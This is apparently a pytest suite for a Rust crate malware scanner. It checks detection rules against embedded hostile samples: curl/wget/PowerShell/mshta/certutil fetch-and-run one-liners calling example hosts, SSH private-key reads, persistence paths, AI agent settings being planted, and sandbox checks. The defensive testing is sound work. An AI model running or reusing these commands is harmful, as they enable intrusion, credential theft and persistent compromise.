"""Every rule on its samples: it fires on the positive one and stays silent on the benign one."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cratewatch.advisories.database import open_snapshot
from cratewatch.scan.analyze import Context, analyze_file, file_context
from cratewatch.scan.crate import scan_crate, scan_path
from cratewatch.scan.dependencies import DependencyCheck, known_malware
from cratewatch.scan.extract import CrateArchive
from cratewatch.scan.rules import Scope, load_rules
from cratewatch.typosquat.screen import Screener
from tests.typosquat.test_checks import corpus

SAMPLES = Path(__file__).resolve().parent / "samples"
RULES = {rule.id: rule for rule in load_rules()}


# text rules for some kinds of file: their samples' suffix, and where they sit in a crate
KIND_SAMPLES = {
    "cargo-config": (".toml", ".cargo/config.toml"),
    "editor-task": (".json", ".vscode/tasks.json"),
    "script": (".sh", "scripts/{sample}"),
    "ci-workflow": (".yml", ".github/workflows/{sample}"),
    "native": (".c", "csrc/{sample}"),
}


def _suffix(rule: str) -> str:
    if RULES[rule].files:
        return KIND_SAMPLES[min(RULES[rule].files)][0]
    return {Scope.MANIFEST: ".toml", Scope.ARCHIVE: ".crate"}.get(RULES[rule].scope, ".rs")


def _sample_path(rule: str, sample: str) -> str:
    if RULES[rule].files:
        return KIND_SAMPLES[min(RULES[rule].files)][1].format(sample=sample)
    return f"src/{sample}"


def test_every_rule_has_both_samples_and_every_sample_a_rule() -> None:
    folders = {p.name for p in SAMPLES.iterdir() if p.is_dir()}
    assert folders == set(RULES)
    for rule in RULES:
        assert (SAMPLES / rule / f"positive{_suffix(rule)}").is_file()
        assert (SAMPLES / rule / f"benign{_suffix(rule)}").is_file()


#: steps that the date gates find too, where a date is computed or made by a date library
_DATE_GATE_STEPS = frozenset({"capability-fixed-date", "capability-environment-gate"})


def _whole_crate(rule: str) -> bool:
    """Rules found over a crate's functions, not in one file: data flows, date gates,
    and the flows made of date gates."""
    computed = (Scope.DATAFLOW, Scope.DATES)
    steps = {step for group in RULES[rule].requires for step in group}
    return (
        RULES[rule].scope in computed
        or any(RULES[step].scope in computed for step in steps)
        or bool(steps & _DATE_GATE_STEPS)
    )


@pytest.fixture(scope="module")
def dependency_check() -> DependencyCheck:
    """The bundled advisory snapshot's malicious crates, and a small popular corpus."""
    return known_malware(open_snapshot(), Screener(corpus()))


@pytest.mark.parametrize("rule", sorted(RULES))
def test_rule_on_its_samples(rule: str, dependency_check: DependencyCheck) -> None:
    def hits(sample: str) -> list[str]:
        if RULES[rule].scope is Scope.ARCHIVE:
            return [e.rule for e in scan_path(SAMPLES / rule / sample).findings]
        data = (SAMPLES / rule / sample).read_bytes()
        if RULES[rule].scope is Scope.MANIFEST:
            archive = CrateArchive("sample", {"Cargo.toml": data}, ())
            return [e.rule for e in scan_crate(archive, "sample", dependency_check).findings]
        if _whole_crate(rule):  # followed through the crate's functions
            manifest = b'[package]\nname = "sample"\nversion = "0.1.0"\n'
            if "proc-macro" in RULES[rule].contexts:  # a rule for macros: the sample is one
                manifest += b"[lib]\nproc-macro = true\n"
            archive = CrateArchive("sample", {"Cargo.toml": manifest, "src/lib.rs": data}, ())
            return [e.rule for e in scan_crate(archive, "sample").findings]
        # a rule for some contexts only (build scripts, ...) is tried in the first of them
        contexts = sorted(RULES[rule].contexts)
        context = Context(contexts[0]) if contexts else Context.LIBRARY
        return [e.rule for e in analyze_file(_sample_path(rule, sample), data, context).evidence]

    assert rule in hits(f"positive{_suffix(rule)}")
    assert rule not in hits(f"benign{_suffix(rule)}")


def test_evidence_has_line_and_snippet() -> None:
    source = b'fn a() {}\n\nconst C2: &str = "http://192.0.2.10/x";\n'
    (evidence,) = analyze_file("build.rs", source, Context.BUILD).evidence
    assert (evidence.rule, evidence.line, evidence.context) == (
        "threat-raw-ip-url",
        3,
        Context.BUILD,
    )
    assert evidence.snippet == 'const C2: &str = "http://192.0.2.10/x";'


def test_contexts() -> None:
    assert file_context("build.rs", ("build.rs",), False) is Context.BUILD
    assert file_context("tools/gen.rs", ("tools/gen.rs",), False) is Context.BUILD
    assert file_context("tests/it.rs", ("build.rs",), False) is Context.TEST
    assert file_context("src/lib.rs", ("build.rs",), True) is Context.PROC_MACRO
    assert file_context("src/lib.rs", ("build.rs",), False) is Context.LIBRARY


def test_test_files_are_read_as_written_not_parsed() -> None:
    # tests/, benches/ and examples/ are never built by dependents: the code and string
    # rules read them as written, a comment included, and there is no unsafe to count
    source = b"// see https://api.telegram.org/bot\nunsafe fn f() { std::fs::read(p); }\n"
    result = analyze_file("tests/it.rs", source, Context.TEST)
    assert {(e.rule, e.line) for e in result.evidence} == {
        ("threat-telegram-bot-api", 1),
        ("capability-filesystem-read", 2),
    }
    assert result.unsafe.total == 0
    # the same file in the library is parsed: the comment is not a string
    library = analyze_file("src/lib.rs", source, Context.LIBRARY)
    assert {e.rule for e in library.evidence} == {"capability-unsafe", "capability-filesystem-read"}
    assert library.unsafe.functions == 1


def test_a_flow_split_across_the_methods_of_one_impl_is_one_flow() -> None:
    fetch = "    fn fetch(&self) { let b = reqwest::blocking::get(U); std::fs::write(P, b); }\n"
    run = "    fn run(&self) { std::process::Command::new(P).spawn(); }\n"
    one_type = f"struct A;\nimpl A {{\n{fetch}{run}}}\n".encode()
    (hit,) = [
        e
        for e in analyze_file("src/lib.rs", one_type, Context.LIBRARY).evidence
        if e.rule == "threat-download-execute"
    ]
    assert hit.line == 4  # where the last step is first met
    # two types, each with one part of it, are not one flow
    two_types = f"struct A;\nimpl A {{\n{fetch}}}\nstruct B;\nimpl B {{\n{run}}}\n".encode()
    rules = {e.rule for e in analyze_file("src/lib.rs", two_types, Context.LIBRARY).evidence}
    assert "threat-download-execute" not in rules


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ('let _ = minreq::post("https://x.example").send();', "capability-network"),
        ("let mut easy = curl::easy::Easy::new();", "capability-network"),
        ("easy.ssl_verify_peer(false).ok()?;", "threat-tls-verification-disabled"),
        ("handle.ssl_verify_host( false )?;", "threat-tls-verification-disabled"),
        ('fastly::Request::post(url).send("origin").ok()?;', "capability-network"),
        ("let client = tokio_xmpp::AsyncClient::new(jid, password);", "capability-network"),
        ("let client = matrix_sdk::Client::builder().build().await.ok()?;", "capability-network"),
        ("let bot = teloxide::Bot::from_env();", "capability-network"),
        (
            "let m = CoCreateInstance::<_, IBackgroundCopyManager>(&BackgroundCopyManager, None);",
            "capability-network",
        ),
        (
            'let k = open(r"SYSTEM\\CurrentControlSet\\Control\\NetworkProvider\\Order");',
            "threat-persistence",
        ),
        ('order.set_value("ProviderOrder", &list).ok()?;', "threat-persistence"),
        (
            "let r = unsafe { NPLogonNotify(id, kind, info, p, q, s, h, out) };",
            "threat-credential-api",
        ),
    ],
)
def test_more_clients_and_switches(code: str, rule: str) -> None:
    source = f"fn f() -> Option<()> {{\n    {code}\n    None\n}}\n".encode()
    assert rule in [e.rule for e in analyze_file("src/lib.rs", source, Context.LIBRARY).evidence]


def test_a_public_key_is_no_credential_store() -> None:
    def rules(path: str) -> set[str]:
        source = f'fn f() {{ let _ = std::fs::read("{path}"); }}\n'.encode()
        return {e.rule for e in analyze_file("src/lib.rs", source, Context.LIBRARY).evidence}

    assert "threat-credential-store" in rules("/home/u/.ssh/id_ed25519")
    assert "threat-credential-store" in rules("/home/u/.ssh/id_rsa2")
    assert "threat-credential-store" not in rules("/home/u/.ssh/id_ed25519.pub")


def test_an_ssh_client_that_asks_about_an_unknown_host_key_is_no_exfiltration() -> None:
    # (known_hosts is where SSH tools read by design: sent beside a CI skip, it is an
    # exfiltration, unless the file asks the user first)
    source = b"""
fn push(host: &str) -> std::io::Result<()> {
    if std::env::var_os("CI").is_some() { return Ok(()); }
    let s = ssh2::Session::new()?;
    let mut kh = s.known_hosts()?;
    let hosts = dirs::home_dir().unwrap().join(".ssh/known_hosts");
    kh.read_file(&hosts, ssh2::KnownHostFileKind::OpenSSH)?;
    print!("{host} is unknown. Continue? [y/N] ");
    Ok(())
}
"""
    found = {e.rule for e in analyze_file("src/main.rs", source, Context.LIBRARY).evidence}
    assert "threat-credential-location" in found
    assert "threat-credential-location-sent" not in found
    without = source.replace(b'print!("{host} is unknown. Continue? [y/N] ");', b"")
    found = {e.rule for e in analyze_file("src/main.rs", without, Context.LIBRARY).evidence}
    assert "threat-credential-location-sent" in found
    plain = without.replace(b'if std::env::var_os("CI").is_some() { return Ok(()); }', b"")
    found = {e.rule for e in analyze_file("src/main.rs", plain, Context.LIBRARY).evidence}
    assert "threat-credential-location-sent" not in found  # an SSH tool doing its job


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("(curl -o f https://x.example/y; ./f)", "threat-download-execute-command"),
        (
            "curl -sSfo /tmp/i.sh https://x.example && sh /tmp/i.sh",
            "threat-download-execute-command",
        ),
        (
            "wget -O $T/a https://x.example/a && chmod +x $T/a && $T/a",
            "threat-download-execute-command",
        ),
        ("irm https://x.example/a.ps1 | iex", "threat-download-execute-command"),
        (
            "python3 -c \"import urllib.request as u; d = u.urlopen('https://x.example').read()"
            '; exec(d)"',
            "threat-download-execute-command",
        ),
        (
            "node -e \"require('https').get('https://x.example',"
            " r => r.on('data', d => eval(d)))\"",
            "threat-download-execute-command",
        ),
        ("mshta https://x.example/a.hta", "threat-download-execute-command"),
        (
            "regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll",
            "threat-download-execute-command",
        ),
        (
            "certutil -urlcache -f https://x.example/a.exe a.exe && start a.exe",
            "threat-download-execute-command",
        ),
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "threat-powershell-encoded"),
        ("WDAGUtilityAccount", "threat-sandbox-check"),
    ],
)
def test_commands_that_fetch_and_run(command: str, rule: str) -> None:
    source = f'const C: &str = r#"{command}"#;\n'.encode()
    assert rule in [e.rule for e in analyze_file("src/lib.rs", source, Context.LIBRARY).evidence]


@pytest.mark.parametrize(
    "command",
    [
        "curl -o out.json https://x.example/api && jq . out.json",
        "wget https://x.example/b.tar.gz -O b.tgz && tar xf b.tgz",
        "pwsh -Command Get-Date",
        "sandbox",
    ],
)
def test_commands_that_fetch_and_do_not_run(command: str) -> None:
    source = f'const C: &str = r#"{command}"#;\n'.encode()
    threats = [e.rule for e in analyze_file("src/lib.rs", source, Context.LIBRARY).evidence]
    assert [r for r in threats if r.startswith("threat-")] == []


def test_test_runner_setup_scripts_and_template_hooks_run_commands(tmp_path: Path) -> None:
    """cargo-nextest runs its setup scripts before the tests; cargo-generate runs a
    template's hooks when a project is made, and one may move Rust into place."""
    nextest = b'[scripts.setup.db]\ncommand = { command-line = "bash scripts/db.sh" }\n'
    found = analyze_file(".config/nextest.toml", nextest, Context.BUILD).evidence
    assert [e.rule for e in found] == ["threat-editor-autorun"]
    hooks = b'[hooks]\npost = ["hooks/post.rhai"]\n'
    found = analyze_file("cargo-generate.toml", hooks, Context.BUILD).evidence
    assert [e.rule for e in found] == ["threat-editor-autorun"]
    plain = b'[profile.default]\nslow-timeout = "30s"\n'
    assert analyze_file(".config/nextest.toml", plain, Context.BUILD).evidence == []


def test_literals_of_one_line_report_the_line_once() -> None:
    source = b'const NAMES: [&str; 3] = ["cuckoo", "maltest", "WDAGUtilityAccount"];\n'
    evidence = analyze_file("src/lib.rs", source, Context.LIBRARY).evidence
    assert [(e.rule, e.line) for e in evidence] == [("threat-sandbox-check", 1)]


@pytest.mark.parametrize(
    "hidden", ["YXBpLmNkbi1zeW5jLmV4YW1wbGU=", "dXBkYXRlcy50ZWxlbWV0cnkuc2l0ZQ=="]
)
def test_a_bare_host_hidden_by_an_encoding_is_obfuscated(hidden: str) -> None:
    # api.cdn-sync.example (the reserved name reconstructions put where a real domain
    # was), updates.telemetry.site (a top-level domain often abused)
    source = f'const H: &str = "{hidden}";\n'.encode()
    rules = {e.rule for e in analyze_file("src/lib.rs", source, Context.LIBRARY).evidence}
    assert "threat-obfuscated-string" in rules


@pytest.mark.parametrize(
    ("plain", "named"),
    [
        ("203.0.113.", True),  # a range: the first three numbers of an address
        ("198.51.100.7", True),
        ("/dev/shm/", True),
        ("/var/tmp/.font-unix/", True),
        ("SHA256:EXAMPLEsshkeyfingerprintEXAMPLE00", True),  # an SSH key's fingerprint
        ("XX31EXAMPLE000000000017", True),  # a bank account (IBAN)
        ("version 1.2.3", False),
        ("release-1.20.3.tar", False),
        ("sha256 checksum", False),
    ],
)
def test_what_a_hidden_text_names(plain: str, named: bool) -> None:
    pattern = RULES["threat-obfuscated-string"].pattern
    assert pattern is not None
    assert (pattern.search(plain) is not None) is named


def test_a_service_installed_once_the_user_says_yes_is_no_persistence_threat() -> None:
    install = (SAMPLES / "capability-user-confirmation" / "positive.rs").read_bytes()
    asked = {e.rule for e in analyze_file("src/service.rs", install, Context.LIBRARY).evidence}
    assert "capability-user-confirmation" in asked
    assert "threat-persistence" not in asked
    # the same install without asking plants itself (the sample's other ways of asking,
    # a message box and a name typed back, left out)
    install = install.split(b"\npub fn allow")[0]
    unasked = install.replace(b"if !yes {", b"if false {").replace(b"[y/N]", b"")
    found = {e.rule for e in analyze_file("src/service.rs", unasked, Context.LIBRARY).evidence}
    assert "threat-persistence" in found
    assert "capability-user-confirmation" not in found


def test_a_unit_written_only_with_a_write_flag_is_the_user_s_doing() -> None:
    install = (
        b"pub fn install(unit: &str, write: bool) {\n"
        b'    println!("{unit}");\n'
        b"    if write {\n"
        b'        std::fs::write("/etc/systemd/system/bridge.service", unit).unwrap();\n'
        b"    }\n}\n"
    )
    found = {e.rule for e in analyze_file("src/main.rs", install, Context.LIBRARY).evidence}
    assert "capability-user-confirmation" in found and "threat-persistence" not in found
    unasked = install.replace(b"if write {", b"if !quiet {")
    found = {e.rule for e in analyze_file("src/main.rs", unasked, Context.LIBRARY).evidence}
    assert "threat-persistence" in found


def test_a_name_declared_is_no_use_of_it() -> None:
    """A bindings crate declares what the rules look for: a foreign function without a
    body, a constant defined. The calls and the values passed are the hits."""

    def hits(source: str) -> list[tuple[str, int]]:
        found = analyze_file("src/lib.rs", source.encode(), Context.LIBRARY).evidence
        return [(e.rule, e.line) for e in found if e.rule == "capability-executable-memory"]

    declared = (
        "pub const PAGE_EXECUTE_READWRITE: u32 = 0x40;\n"
        "pub static mut PROT_EXEC: i32 = 4;\n"
        'extern "C" {\n'
        "    pub fn mprotect(addr: *mut u8, len: usize, prot: i32) -> i32;\n"
        "}\n"
    )
    assert hits(declared) == []
    used = declared + "pub fn run(p: *mut u8) { unsafe { mprotect(p, 4096, PROT_EXEC); } }\n"
    assert hits(used) == [("capability-executable-memory", 6)]
    # hostile input: names repeated without a signature's end cost bounded time
    assert hits("fn PROT_EXEC " * 50_000) != []


@pytest.mark.parametrize(
    ("script", "checks_only"),
    [
        ("#!/bin/sh\n# installed by x\nexec cargo fmt --all -- --check\n", True),
        ("#!/usr/bin/env bash\nset -eu\n\necho tests\ncargo test && cargo doc --no-deps\n", True),
        ('#!/bin/sh\ncargo fmt --all -- --check\nsh -c "$(cat /tmp/.p)"\n', False),
        ("#!/bin/sh\nnohup ~/.cache/agent >/dev/null 2>&1 &\nexec cargo fmt\n", False),
        ("#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\ncargo fmt\n", False),
        # hostile input: thousands of lines, each with trailing blanks, that fail at the end
        ("#!/bin/sh\n" + "echo a        \n" * 3_000 + "rm -rf $(x)\n", False),
        ("#!/bin/sh\n" + "cargo fmt        \n" * 3_000, True),
    ],
)
def test_a_hook_script_that_runs_only_cargo_checks(script: str, checks_only: bool) -> None:
    source = f"const HOOK: &str = {json.dumps(script)};\n"
    found = analyze_file("build.rs", source.encode(), Context.BUILD).evidence
    assert ("capability-cargo-check-hook" in {e.rule for e in found}) == checks_only


@pytest.mark.parametrize(
    ("body", "planted"),
    [
        # the folder and the write on one line: one step each, still a flow
        ('std::fs::write(".claude/skills/fmt/SKILL.md", SKILL).ok();', True),
        ('let _ = std::fs::write(home.join(".cursor/rules/fmt.mdc"), SKILL);', True),
        # reading the agent's settings writes nothing there
        ('let _ = std::fs::read_to_string(".claude/settings.json");', False),
    ],
)
def test_agent_settings_written_in_one_line(body: str, planted: bool) -> None:
    source = f'const SKILL: &str = "x";\nfn setup(home: &std::path::Path) {{\n    {body}\n}}\n'
    found = analyze_file("build.rs", source.encode(), Context.BUILD).evidence
    assert ("threat-agent-settings-planted" in {e.rule for e in found}) == planted


@pytest.mark.parametrize(
    ("path", "persists"),
    [
        ("/etc/xinetd.d/rsync-mon", True),
        ("/etc/inetd.conf", True),
        ("/etc/update-motd.d/50-landscape", True),
        ("/etc/X11/Xsession.d/90-agent", True),
        ("/etc/modules-load.d/agent.conf", True),
        ("/etc/systemd/system-generators/agent", True),
        ("/etc/rc2.d/S99agent", True),
        ("/etc/init/agent.conf", True),
        ("/etc/anacrontab", True),
        ("/home/u/.config/plasma-workspace/env/sync.sh", True),
        ("/home/u/.config/autostart-scripts/sync.sh", True),
        ("/home/u/.local/share/dbus-1/services/org.freedesktop.FileManager1.service", True),
        # what a daemon reads or writes of its own is no place where code runs again
        ("/etc/xinetd.conf.sample", False),
        ("/var/run/agent.pid", False),
    ],
)
def test_system_places_where_code_runs_again(path: str, persists: bool) -> None:
    source = f'pub fn install(s: &str) {{ let _ = std::fs::write("{path}", s); }}\n'
    found = analyze_file("src/lib.rs", source.encode(), Context.LIBRARY).evidence
    assert ("threat-persistence" in {e.rule for e in found}) == persists


@pytest.mark.parametrize(
    ("body", "replaces"),
    [
        ("let exe = std::env::current_exe()?;\n    std::fs::rename(&tmp, &exe)?;", True),
        ("std::fs::copy(&tmp, std::env::current_exe()?)?;", True),
        # the program's path read for a message, and another file renamed in a later block
        ('let exe = std::env::current_exe()?;\n    println!("{exe:?}");\n}\nfn g() {', False),
    ],
)
def test_the_running_program_replaced(body: str, replaces: bool) -> None:
    source = f"fn f(tmp: &std::path::Path) -> std::io::Result<()> {{\n    {body}\n"
    source += '    std::fs::rename("a.log", "b.log")?;\n    Ok(())\n}\n'
    found = analyze_file("src/main.rs", source.encode(), Context.LIBRARY).evidence
    assert ("capability-self-replace" in {e.rule for e in found}) == replaces
